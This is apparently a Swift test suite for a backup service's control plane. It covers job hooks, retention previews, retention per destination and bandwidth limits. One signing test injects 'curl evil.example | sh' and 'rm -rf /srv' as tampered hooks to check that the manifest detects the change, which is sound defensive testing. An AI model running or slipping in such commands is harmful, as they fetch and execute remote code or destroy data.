import BackupCore
import Foundation
import HTTPTypes
import HummingbirdTesting
import NIOCore
import Store
import Testing

@testable import ControlPlane

/// Job hooks through the API: stored, replaced as a whole, removed, validated with the field named.
@Suite("API: job hooks")
struct APIJobHooksTests {
    @Test func hooksAreStoredReplacedRemovedAndValidated() async throws {
        try await withTestHub { hub, client in
            let account = try await APIJobTests.setUp(hub, client)
            let token = account.token
            let created = try await client.call(
                .post, "/api/v1/jobs", token: token,
                body: """
                    {"name":"site","server":"web1","kind":"full","sources":{"paths":["/srv"]},"schedule":"daily","destinations":["nas"],
                     "hooks":{"before":"  systemctl stop worker  ","finally":"systemctl start worker","beforePolicy":"cancel","timeoutSeconds":60}}
                    """)
            expectStatus(created, .created)
            #expect(created.json["hooks"]["before"].string == "systemctl stop worker", "trimmed")
            #expect(created.json["hooks"]["finally"].string == "systemctl start worker")
            #expect(created.json["hooks"]["beforePolicy"].string == "cancel")
            #expect(created.json["hooks"]["timeoutSeconds"].int == 60)
            #expect(try await client.call(.get, "/api/v1/jobs/site", token: token).json["hooks"]["before"].string == "systemctl stop worker")

            let replaced = try await client.call(.patch, "/api/v1/jobs/site", token: token, body: #"{"hooks":{"after":"echo done"}}"#)
            expectStatus(replaced, .ok)
            #expect(replaced.json["hooks"]["after"].string == "echo done")
            #expect(replaced.json["hooks"]["before"].isNull, "the set is replaced as a whole")

            for (body, field) in [
                (#"{"hooks":{"before":"echo a\u0000b"}}"#, "hooks.before"),
                (#"{"hooks":{"after":"echo a\rb"}}"#, "hooks.after"),
                (#"{"hooks":{"finally":"\#(String(repeating: "x", count: 4097))"}}"#, "hooks.finally"),
                (#"{"hooks":{"before":"true","timeoutSeconds":0}}"#, "hooks.timeoutSeconds"),
                (#"{"hooks":{"after":"true","beforePolicy":"cancel"}}"#, "hooks.beforePolicy"),
                (#"{"hooks":{"timeoutSeconds":60}}"#, "hooks"),
            ] {
                expectError(try await client.call(.patch, "/api/v1/jobs/site", token: token, body: body), .badRequest, field: field)
            }
            expectStatus(
                try await client.call(.patch, "/api/v1/jobs/site", token: token, body: #"{"hooks":{"before":"true","beforePolicy":"later"}}"#),
                .badRequest)
            #expect(try await client.call(.get, "/api/v1/jobs/site", token: token).json["hooks"]["after"].string == "echo done", "refused: unchanged")

            let removed = try await client.call(.patch, "/api/v1/jobs/site", token: token, body: #"{"hooks":{}}"#)
            expectStatus(removed, .ok)
            #expect(removed.json["hooks"].isNull)
        }
    }

    @Test func hooksAreSignedWithTheJob() throws {
        let job = Job(
            id: "job_1", accountID: "acc_1", serverID: "srv_1", name: "site", kind: .full, sources: JobSources(paths: ["/srv"]),
            schedule: try Schedule.parse("daily"), retention: .standard, destinationIDs: ["dst_1"], enabled: true, createdAt: Date(),
            updatedAt: Date(), hooks: JobHooks(before: "pg_ctl stop"))
        let manifest = JobManifest(job: job, version: 1)
        var injected = job
        injected.hooks?.before = "curl evil.example | sh"
        #expect(manifest.differences(from: injected) == ["hooks"])
        var added = job
        added.hooks?.finally = "rm -rf /srv"
        #expect(manifest.differences(from: added) == ["hooks"])
        var none = job
        none.hooks = nil
        #expect(JobManifest(job: none, version: 1).differences(from: job) == ["hooks"])
        // A job without hooks signs exactly as before hooks existed: no member in the document.
        let body = String(decoding: try JSONEncoder().encode(JobManifest(job: none, version: 1)), as: UTF8.self)
        #expect(!body.contains("hooks"))
    }
}

/// The retention preview from the hub's snapshot records: per destination, nothing changed.
@Suite("API: retention preview")
struct APIRetentionPreviewTests {
    @Test func previewListsPerDestinationWhatANewRetentionRemoves() async throws {
        try await withTestHub { hub, client in
            let account = try await APIJobTests.setUp(hub, client)
            let token = account.token
            let created = try await client.call(
                .post, "/api/v1/jobs", token: token,
                body:
                    #"{"name":"site","server":"web1","kind":"full","sources":{"paths":["/srv"]},"schedule":"daily","destinations":["nas","usb"],"retention":{"keepDaily":7}}"#
            )
            expectStatus(created, .created)
            let jobID = try #require(created.json["id"].string)
            let serverID = try #require(created.json["serverID"].string)
            let destinations = created.json["destinationIDs"].array.compactMap(\.string)
            try #require(destinations.count == 2)
            let (nas, usb) = (destinations[0], destinations[1])
            // Five days, one snapshot a day at 02:30 UTC (two on the newest day); usb missed day 2.
            let base = Date(timeIntervalSince1970: 1_767_234_600)  // 2026-01-01 02:30 UTC
            var snapshotIDs: [String] = []
            for (day, hours) in [(0, [0.0]), (1, [0.0]), (2, [0.0]), (3, [0.0]), (4, [0.0, 5.0])] {
                for hour in hours {
                    let at = base.addingTimeInterval(Double(day) * 86_400 + hour * 3600)
                    let runID = ResourceID.make(.run)
                    let copies = [nas, usb].filter { !(day == 2 && $0 == usb) }
                    try await hub.store.insertRun(
                        Run(
                            id: runID, accountID: account.id, serverID: serverID, jobID: jobID, trigger: .timer, status: .succeeded, createdAt: at,
                            startedAt: at, finishedAt: at, results: copies.map { DestinationResult(destinationID: $0, status: .succeeded) }))
                    let snapshot = Snapshot(
                        id: ResourceID.make(.snapshot), accountID: account.id, serverID: serverID, jobID: jobID, runID: runID, createdAt: at,
                        copies: copies.map { SnapshotCopy(destinationID: $0, resticSnapshotIDs: ["\(day)\(Int(hour))abcdef"]) })
                    try await hub.store.insertSnapshot(snapshot)
                    snapshotIDs.append(snapshot.id)
                }
            }
            let preview = try await client.call(
                .post, "/api/v1/jobs/site/retention-preview", token: token, body: #"{"retention":{"keepDaily":2}}"#)
            expectStatus(preview, .ok)
            #expect(preview.json["summary"].string == "keeps 2 daily")
            let byDestination = Dictionary(
                uniqueKeysWithValues: preview.json["destinations"].array.map { ($0["destinationID"].string ?? "", $0) })
            // nas: days 4 (newest of two) and 3 kept; day 4's earlier one and days 0–2 removed.
            #expect(byDestination[nas]?["keep"].array.compactMap { $0["snapshotID"].string } == [snapshotIDs[5], snapshotIDs[3]])
            #expect(
                Set(byDestination[nas]?["remove"].array.compactMap { $0["snapshotID"].string } ?? []) == Set([0, 1, 2, 4].map { snapshotIDs[$0] }))
            #expect(byDestination[nas]?["keep"].array.first?["reasons"].array.compactMap(\.string) == ["daily snapshot"])
            // usb has no copy of day 2.
            #expect(byDestination[usb]?["remove"].array.count == 3)
            #expect(byDestination[usb]?["remove"].array.first?["resticSnapshotIDs"].array.first?.string == "40abcdef")

            let own = try await client.call(.post, "/api/v1/jobs/site/retention-preview", token: token, body: "{}")
            expectStatus(own, .ok)
            #expect(own.json["summary"].string == "keeps 7 daily", "no body retention: the job's own")
            #expect(
                own.json["destinations"].array.allSatisfy { $0["remove"].array.compactMap { $0["snapshotID"].string } == [snapshotIDs[4]] },
                "7 daily: only the older of day 4's two snapshots goes")
            #expect(
                try await client.call(.get, "/api/v1/jobs/site", token: token).json["retention"]["keepDaily"].int == 7, "a preview changes nothing")

            expectError(
                try await client.call(.post, "/api/v1/jobs/site/retention-preview", token: token, body: #"{"retention":{"keepDaily":0}}"#),
                .badRequest, field: "retention.keepDaily")
            let other = try await hub.account("other-\(UUID().uuidString.prefix(6))@example.com")
            expectStatus(
                try await client.call(.post, "/api/v1/jobs/\(jobID)/retention-preview", token: other.token, body: "{}"), .notFound)
        }
    }
}

/// The job form's Hooks section: saved through the same use case, shown on the job page, errors next to the field.
@Suite("web: job hooks")
struct WebJobHooksTests {
    @Test func theFormSavesHooksAndShowsThemAndTheirErrors() async throws {
        try await withTestHub { hub, client in
            let account = try await APIJobTests.setUp(hub, client)
            let login = try await client.call(
                .post, "/api/v1/session", body: #"{"email":"\#(account.email)","password":"\#(TestHub.password)"}"#)
            let secret = try #require(login.cookies["mzpanel_session"]?.value, "\(login)")
            let server = try #require(try await client.call(.get, "/api/v1/servers/web1", token: account.token).json["id"].string)
            let nas = try #require(try await client.call(.get, "/api/v1/destinations/nas", token: account.token).json["id"].string)
            func post(_ path: String, _ extra: String) async throws -> (HTTPResponse.Status, String) {
                let fields =
                    "csrf=\(PageCaller.csrfToken(sessionSecret: secret))&name=site&server=\(server)&kind=full&paths=%2Fsrv&schedule=daily"
                    + "&timeZone=UTC&keepDaily=7&destinations=\(nas)&enabled=on" + extra
                let answer = try await client.execute(
                    uri: path, method: .post,
                    headers: [.cookie: "mzpanel_session=\(secret)", .contentType: "application/x-www-form-urlencoded"],
                    body: ByteBuffer(string: fields))
                return (answer.status, String(buffer: answer.body))
            }
            let (status, _) = try await post(
                "/backups/jobs", "&hookBefore=systemctl+stop+worker&hookPolicy=cancel&hookFinally=systemctl+start+worker&hookTimeout=120")
            #expect(status == .seeOther || status == .found)
            let job = try await client.call(.get, "/api/v1/jobs/site", token: account.token)
            #expect(job.json["hooks"]["before"].string == "systemctl stop worker")
            #expect(job.json["hooks"]["beforePolicy"].string == "cancel")
            #expect(job.json["hooks"]["timeoutSeconds"].int == 120)
            let id = try #require(job.json["id"].string)
            let page = try await client.call(.get, "/backups/jobs/\(id)", headers: [.cookie: "mzpanel_session=\(secret)"]).text
            #expect(page.contains("before: systemctl stop worker — when it fails: cancel"), "\(page)")
            let edit = try await client.call(.get, "/backups/jobs/\(id)/edit", headers: [.cookie: "mzpanel_session=\(secret)"]).text
            #expect(edit.contains(#"name="hookFinally" type="text" value="systemctl start worker""#))
            #expect(edit.contains(#"<option value="cancel" selected>"#))

            let (refused, body) = try await post("/backups/jobs/\(id)", "&hookBefore=true&hookTimeout=soon")
            #expect(refused == .badRequest)
            #expect(body.contains(#"id="error-hooks""#) && body.contains("is not a whole number of seconds"), "\(body)")
            let (cleared, _) = try await post("/backups/jobs/\(id)", "")
            #expect(cleared == .seeOther || cleared == .found)
            #expect(try await client.call(.get, "/api/v1/jobs/site", token: account.token).json["hooks"].isNull, "empty fields: no hooks")
        }
    }
}

/// Retention per destination through the API: names resolved, validated, signed, previewed, dropped with its destination.
@Suite("API: retention per destination")
struct APIDestinationRetentionTests {
    @Test func perDestinationRetentionIsResolvedValidatedPreviewedAndDroppedWithItsDestination() async throws {
        try await withTestHub { hub, client in
            let account = try await APIJobTests.setUp(hub, client)
            let token = account.token
            let created = try await client.call(
                .post, "/api/v1/jobs", token: token,
                body: """
                    {"name":"site","server":"web1","kind":"full","sources":{"paths":["/srv"]},"schedule":"daily","destinations":["nas","usb"],
                     "retention":{"keepDaily":7},"destinationRetention":[{"destination":"usb","retention":{"keepMonthly":12}}]}
                    """)
            expectStatus(created, .created)
            let usb = try #require(try await client.call(.get, "/api/v1/destinations/usb", token: token).json["id"].string)
            #expect(created.json["destinationRetention"][0]["destination"].string == usb, "the name is stored as the id")
            #expect(created.json["destinationRetention"][0]["retention"]["keepMonthly"].int == 12)

            for (body, field) in [
                (#"{"destinationRetention":[{"destination":"nowhere","retention":{"keepLast":1}}]}"#, "destinationRetention[0].destination"),
                (
                    #"{"destinationRetention":[{"destination":"usb","retention":{"keepLast":1}},{"destination":"usb","retention":{"keepLast":2}}]}"#,
                    "destinationRetention[1].destination"
                ),
                (#"{"destinationRetention":[{"destination":"usb","retention":{"keepLast":0}}]}"#, "destinationRetention[0].retention.keepLast"),
                (
                    #"{"destinations":["nas"],"destinationRetention":[{"destination":"usb","retention":{"keepLast":1}}]}"#,
                    "destinationRetention[0].destination"
                ),
            ] {
                expectError(try await client.call(.patch, "/api/v1/jobs/site", token: token, body: body), .badRequest, field: field)
            }

            let preview = try await client.call(
                .post, "/api/v1/jobs/site/retention-preview", token: token,
                body: #"{"destinationRetention":[{"destination":"nas","retention":{"keepLast":2}}]}"#)
            expectStatus(preview, .ok)
            let summaries = preview.json["destinations"].array.compactMap { $0["summary"].string }
            #expect(summaries == ["keeps the last 2", "keeps 7 daily"], "nas: its new rule; usb: the job's own (the list is replaced)")

            let moved = try await client.call(.patch, "/api/v1/jobs/site", token: token, body: #"{"destinations":["nas"]}"#)
            expectStatus(moved, .ok)
            #expect(moved.json["destinationRetention"].isNull, "the rule went with its destination")
        }
    }

    @Test func theRulesAreSignedWithTheJob() throws {
        var job = Job(
            id: "job_1", accountID: "acc_1", serverID: "srv_1", name: "site", kind: .full, sources: JobSources(paths: ["/srv"]),
            schedule: try Schedule.parse("daily"), retention: .standard, destinationIDs: ["dst_1", "dst_2"], enabled: true, createdAt: Date(),
            updatedAt: Date(), destinationRetention: [DestinationRetention(destination: "dst_2", retention: RetentionPolicy(keepMonthly: 12))])
        let manifest = JobManifest(job: job, version: 1)
        job.destinationRetention?[0].retention = RetentionPolicy(keepLast: 1)
        #expect(manifest.differences(from: job) == ["retention per destination"])
    }
}

/// The edit form's retention preview: shown in the form, nothing saved.
@Suite("web: retention preview in the job form")
struct WebRetentionPreviewTests {
    @Test func theFormPreviewsWhatItsRetentionWouldRemoveAndSavesNothing() async throws {
        try await withTestHub { hub, client in
            let account = try await APIJobTests.setUp(hub, client)
            let created = try await client.call(
                .post, "/api/v1/jobs", token: account.token,
                body:
                    #"{"name":"site","server":"web1","kind":"full","sources":{"paths":["/srv"]},"schedule":"daily","destinations":["nas"],"retention":{"keepDaily":7}}"#
            )
            let jobID = try #require(created.json["id"].string)
            let serverID = try #require(created.json["serverID"].string)
            let nas = try #require(created.json["destinationIDs"][0].string)
            var ids: [String] = []
            for day in 0..<3 {
                let at = Date(timeIntervalSince1970: 1_767_234_600 + Double(day) * 86_400)
                let runID = ResourceID.make(.run)
                try await hub.store.insertRun(
                    Run(id: runID, accountID: account.id, serverID: serverID, jobID: jobID, trigger: .timer, status: .succeeded, createdAt: at))
                let snapshot = Snapshot(
                    id: ResourceID.make(.snapshot), accountID: account.id, serverID: serverID, jobID: jobID, runID: runID, createdAt: at,
                    copies: [SnapshotCopy(destinationID: nas, resticSnapshotIDs: ["abcd\(day)"])])
                try await hub.store.insertSnapshot(snapshot)
                ids.append(snapshot.id)
            }
            let login = try await client.call(
                .post, "/api/v1/session", body: #"{"email":"\#(account.email)","password":"\#(TestHub.password)"}"#)
            let secret = try #require(login.cookies["mzpanel_session"]?.value, "\(login)")
            let edit = try await client.call(.get, "/backups/jobs/\(jobID)/edit", headers: [.cookie: "mzpanel_session=\(secret)"]).text
            #expect(edit.contains("formaction=\"/backups/jobs/\(jobID)/retention-preview\""))
            let fields =
                "csrf=\(PageCaller.csrfToken(sessionSecret: secret))&name=site&server=\(serverID)&kind=full&paths=%2Fsrv&schedule=daily"
                + "&timeZone=UTC&keepLast=1&destinations=\(nas)&enabled=on"
            let answer = try await client.execute(
                uri: "/backups/jobs/\(jobID)/retention-preview", method: .post,
                headers: [.cookie: "mzpanel_session=\(secret)", .contentType: "application/x-www-form-urlencoded"], body: ByteBuffer(string: fields))
            let page = String(buffer: answer.body)
            #expect(answer.status == .ok, "\(page)")
            #expect(page.contains("keeps the last 1): keeps 1, removes 2"), "\(page)")
            #expect(page.contains(ids[0]) && page.contains(ids[1]) && page.contains("Preview only: nothing was saved"))
            #expect(page.contains(#"name="keepLast" value="1""#), "the form keeps what was typed")
            #expect(
                try await client.call(.get, "/api/v1/jobs/site", token: account.token).json["retention"]["keepDaily"].int == 7, "nothing saved")
        }
    }
}

/// The destination edit page's bandwidth fields: saved, shown, refused with the field named.
@Suite("web: destination bandwidth limits")
struct WebDestinationLimitsTests {
    @Test func theEditFormSavesAndShowsLimits() async throws {
        try await withTestHub { hub, client in
            let account = try await APIJobTests.setUp(hub, client)
            let browser = try await WebFormSession.signIn(client, email: account.email)
            let secret = browser.secret
            let nas = try #require(try await client.call(.get, "/api/v1/destinations/nas", token: account.token).json["id"].string)
            func post(_ extra: String) async throws -> (HTTPResponse.Status, String) {
                try await browser.post("/backups/destinations/\(nas)", "&name=nas&settings.path=%2Fsrv%2Fnas" + extra)
            }
            let (saved, _) = try await post("&settings.limitUploadKiB=512&settings.limitDownloadKiB=")
            #expect(saved == .seeOther || saved == .found)
            let shown = try await client.call(.get, "/api/v1/destinations/nas", token: account.token)
            #expect(shown.json["settings"]["limitUploadKiB"].int == 512)
            #expect(shown.json["settings"]["limitDownloadKiB"].isNull)
            let edit = try await client.call(.get, "/backups/destinations/\(nas)/edit", headers: [.cookie: "mzpanel_session=\(secret)"]).text
            #expect(edit.contains(#"name="settings.limitUploadKiB" type="number" min="1" inputmode="numeric" value="512""#), "\(edit)")
            let (refused, body) = try await post("&settings.limitUploadKiB=fast")
            #expect(refused == .badRequest)
            #expect(body.contains("is not a whole number of KiB per second"), "\(body)")
            let (outOfRange, _) = try await post("&settings.limitUploadKiB=99999999")
            #expect(outOfRange == .badRequest)
            #expect(try await client.call(.get, "/api/v1/destinations/nas", token: account.token).json["settings"]["limitUploadKiB"].int == 512)
        }
    }
}
